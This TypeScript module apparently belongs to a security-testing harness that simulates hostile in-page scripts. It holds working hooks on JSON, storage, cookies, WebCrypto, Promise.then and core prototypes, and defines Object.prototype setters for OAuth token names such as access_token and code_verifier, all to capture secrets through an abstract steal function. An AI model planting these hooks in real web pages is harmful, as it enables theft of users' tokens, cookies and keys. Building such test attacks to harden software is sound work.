import { attack } from "../attack.js";

export const hookJson = attack({
  name: "hooks JSON.parse and JSON.stringify",
  threat: "persistent theft",
  target: "any",
  hook(it) {
    const { parse, stringify } = JSON;
    JSON.parse = (text: string, ...rest: unknown[]) => {
      it.steal(text);
      return parse(text, ...(rest as []));
    };
    JSON.stringify = ((...args: unknown[]) => {
      const text = stringify(...(args as [unknown]));
      it.steal(text);
      return text;
    }) as typeof JSON.stringify;
  },
});

export const hookTextCodecs = attack({
  name: "hooks TextDecoder, TextEncoder, atob and btoa",
  threat: "persistent theft",
  target: "any",
  hook(it) {
    const { decode } = TextDecoder.prototype;
    TextDecoder.prototype.decode = function (...args) {
      const text = decode.apply(this, args);
      it.steal(text);
      return text;
    };
    const { encode } = TextEncoder.prototype;
    TextEncoder.prototype.encode = function (text) {
      it.steal(text);
      return encode.call(this, text);
    };
    for (const name of ["atob", "btoa"] as const) {
      const original = window[name];
      window[name] = (text) => {
        it.steal(text);
        const result = original(text);
        it.steal(result);
        return result;
      };
    }
  },
});

export const hookPromises = attack({
  name: "hooks Promise.prototype.then",
  threat: "persistent theft",
  target: "any",
  hook(it) {
    const { then } = Promise.prototype;
    const look = (value: unknown) => {
      if (typeof value === "string") it.steal(value);
      if (value instanceof Response) it.steal(value.url, [...value.headers]);
      else if (typeof value === "object" && value !== null && !(value instanceof Node)) it.steal(value);
    };
    // biome-ignore lint/suspicious/noThenProperty: this is what the attack is
    Promise.prototype.then = function (onFulfilled, onRejected) {
      const watched =
        typeof onFulfilled === "function"
          ? (value: unknown) => {
              look(value);
              return (onFulfilled as (value: unknown) => unknown)(value);
            }
          : onFulfilled;
      return then.call(this, watched, onRejected) as never;
    };
  },
});

export const hookStorage = attack({
  name: "hooks the storage APIs",
  threat: "persistent theft",
  target: "any",
  hook(it) {
    for (const method of ["getItem", "setItem"] as const) {
      const original = Storage.prototype[method] as (...args: string[]) => unknown;
      Storage.prototype[method] = function (this: Storage, ...args: string[]) {
        const result = original.apply(this, args);
        it.steal(...args, result);
        return result;
      } as never;
    }
    for (const method of ["put", "add"] as const) {
      const original = IDBObjectStore.prototype[method];
      IDBObjectStore.prototype[method] = function (value, ...key) {
        it.steal(value);
        return original.call(this, value, ...key);
      };
    }
    const { put } = Cache.prototype;
    Cache.prototype.put = function (request, response) {
      void response
        .clone()
        .text()
        .then((text) => it.steal(text));
      return put.call(this, request, response);
    };
    const cookie = Object.getOwnPropertyDescriptor(Document.prototype, "cookie");
    if (!cookie?.get || !cookie.set) return;
    const { get, set } = cookie;
    Object.defineProperty(Document.prototype, "cookie", {
      ...cookie,
      get() {
        const value: string = get.call(this);
        it.steal(value);
        return value;
      },
      set(value: string) {
        it.steal(value);
        set.call(this, value);
      },
    });
  },
});

export const hookCrypto = attack({
  name: "hooks WebCrypto",
  threat: "persistent theft",
  target: "any",
  hook(it) {
    const latin1 = (value: unknown) => {
      const bytes =
        value instanceof ArrayBuffer
          ? new Uint8Array(value)
          : ArrayBuffer.isView(value)
            ? new Uint8Array(value.buffer, value.byteOffset, value.byteLength)
            : new Uint8Array();
      return Array.from(bytes, (byte) => String.fromCharCode(byte)).join("");
    };
    for (const method of ["digest", "encrypt", "decrypt", "importKey", "sign", "deriveBits"] as const) {
      const original = SubtleCrypto.prototype[method] as (...args: unknown[]) => Promise<unknown>;
      SubtleCrypto.prototype[method] = async function (this: SubtleCrypto, ...args: unknown[]) {
        it.steal(...args.map(latin1));
        const result = await original.apply(this, args);
        it.steal(latin1(result));
        return result;
      } as never;
    }
    const { getRandomValues } = Crypto.prototype;
    Crypto.prototype.getRandomValues = function (array) {
      const filled = getRandomValues.call(this, array);
      const base64 = btoa(latin1(filled));
      it.steal(base64.replaceAll("+", "-").replaceAll("/", "_").replaceAll("=", ""));
      return filled as never;
    };
  },
});

export const hookObjectPrototype = attack({
  name: "defines setters on Object.prototype",
  threat: "persistent theft",
  target: "any",
  hook(it) {
    for (const name of [
      "access_token",
      "accessToken",
      "refresh_token",
      "refreshToken",
      "id_token",
      "idToken",
      "token",
      "code",
      "code_verifier",
      "Authorization",
      "authorization",
    ]) {
      Object.defineProperty(Object.prototype, name, {
        configurable: true,
        get: () => undefined,
        set(value: unknown) {
          it.steal(value);
          Object.defineProperty(this, name, { value, configurable: true, enumerable: true, writable: true });
        },
      });
    }
  },
});

export const hookStringsAndArrays = attack({
  name: "hooks String.prototype, Array.prototype, Map and URLSearchParams",
  threat: "persistent theft",
  target: "any",
  hook(it) {
    for (const [prototype, methods] of [
      [
        String.prototype,
        ["split", "concat", "slice", "substring", "replace", "startsWith", "trim", "indexOf"],
      ],
      [Array.prototype, ["join", "push", "concat", "map"]],
      [Map.prototype, ["set"]],
      [URLSearchParams.prototype, ["get", "set", "append", "toString"]],
    ] as [object, string[]][]) {
      for (const method of methods) {
        const original = Reflect.get(prototype, method) as (...args: unknown[]) => unknown;
        Object.defineProperty(prototype, method, {
          configurable: true,
          writable: true,
          value(this: unknown, ...args: unknown[]) {
            const result = Reflect.apply(original, this, args);
            for (const value of [this, ...args, result]) {
              if (typeof value === "string" || value instanceof String) it.steal(String(value));
            }
            return result;
          },
        });
      }
    }
  },
});

export const hookConsoleAndErrors = attack({
  name: "hooks the console and errors",
  threat: "persistent theft",
  target: "any",
  hook(it) {
    const text = (value: unknown) => (value instanceof Error ? `${value.message} ${value.stack}` : value);
    for (const method of ["debug", "info", "log", "warn", "error", "trace", "dir", "table"] as const) {
      const original = console[method] as (...args: unknown[]) => void;
      console[method] = (...args: unknown[]) => {
        it.steal(...args.map(text));
        original(...args);
      };
    }
    addEventListener("error", ({ message, error }) => it.steal(message, text(error)), true);
    addEventListener("unhandledrejection", ({ reason }) => it.steal(text(reason)));
    for (const name of ["Error", "TypeError"] as const) {
      window[name] = new Proxy(window[name], {
        construct(target, [message, ...rest]: [string]) {
          it.steal(message);
          return new target(message, ...rest);
        },
      }) as never;
    }
  },
});
